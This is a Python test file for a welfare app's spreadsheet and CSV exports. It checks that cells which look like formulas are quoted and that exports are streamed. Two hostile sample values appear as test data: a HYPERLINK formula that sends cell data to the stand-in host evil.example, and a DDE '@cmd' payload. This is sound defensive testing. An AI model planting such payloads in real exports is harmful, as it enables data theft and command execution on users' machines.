"""Exports that cannot run code: a cell that a spreadsheet would read as a formula is text."""

from __future__ import annotations

import io
import tracemalloc
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest

from saram.core.models import Organisation, Role
from saram.core.services.exports import safe_cell, write_table, write_table_file

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+82 10", "'+82 10"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("송천동 1-2", "송천동 1-2"),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_that_starts_a_formula_is_quoted(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


def _xlsx_cells(content: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_xlsx_holds_no_formula_only_text() -> None:
    cells = _xlsx_cells(write_table(["주소"], [[ATTACK], [-3]], "xlsx"))
    assert [c.data_type for c in cells] == ["s", "s", "n"]
    assert cells[1].value == "'" + ATTACK


def test_people_export_neutralises_an_address_formula(
    client_as: Any, dong: Any, make_person: Any
) -> None:
    make_person(dong, address=ATTACK)
    client = client_as(Role.WELFARE_OFFICER, dong)
    response = client.get("/people/export/", {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Cache-Control"] == "no-store"
    cells = _xlsx_cells(response.getvalue())
    assert all(c.data_type != "f" for c in cells)
    assert "'" + ATTACK in [c.value for c in cells]
    csv_body = client.get("/people/export/", {"format": "csv"}).getvalue().decode("utf-8-sig")
    assert "'" + ATTACK.replace('"', '""') in csv_body


def test_organisation_export_neutralises_a_name_formula(client_as: Any, dong: Any) -> None:
    Organisation.objects.create(kind="children_centre", name="@cmd|' /C calc'!A0", dong=dong)
    response = client_as(Role.CITIZEN).get("/organisations/", {"format": "xlsx"})
    cells = _xlsx_cells(response.getvalue())
    assert "'@cmd|' /C calc'!A0" in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)


def _rows(count: int) -> Iterator[list[Any]]:
    for i in range(count):
        yield [f"{i:08d}", f"전라북도 전주시 덕진구 송천동 {i}번지 {'가' * 30}", "=1+1", i, None]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_is_written_row_by_row_not_held_whole_in_memory(fmt: str) -> None:
    count = 20_000
    tracemalloc.start()
    try:
        with write_table_file(["번호", "주소", "식", "수", "빈칸"], _rows(count), fmt) as out:
            _size, peak = tracemalloc.get_traced_memory()
            content = out.read()
    finally:
        tracemalloc.stop()
    # The table itself is several megabytes; built whole in memory it would show in the peak.
    assert peak < 3_000_000, peak
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content), read_only=True).active
        rows = list(sheet.iter_rows(values_only=True))
        assert len(rows) == count + 1
        assert rows[-1][2] == "'=1+1"
    else:
        assert len(content) > 3_000_000
        assert content.decode("utf-8-sig").count("\r\n") == count + 1


def test_people_export_is_sent_as_a_file_not_built_in_the_response(
    client_as: Any, dong: Any, make_person: Any
) -> None:
    make_person(dong)
    response = client_as(Role.WELFARE_OFFICER, dong).get("/people/export/", {"format": "xlsx"})
    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="people.xlsx"'
    assert len(_xlsx_cells(response.getvalue())) == 2 * 10


def test_a_control_character_in_an_address_does_not_break_the_xlsx_export(
    client_as: Any, dong: Any, make_person: Any
) -> None:
    make_person(dong, address="송천동\x0b 1-2\x1f")
    response = client_as(Role.WELFARE_OFFICER, dong).get("/people/export/", {"format": "xlsx"})
    assert response.status_code == 200
    assert "송천동 1-2" in [c.value for c in _xlsx_cells(response.getvalue())]
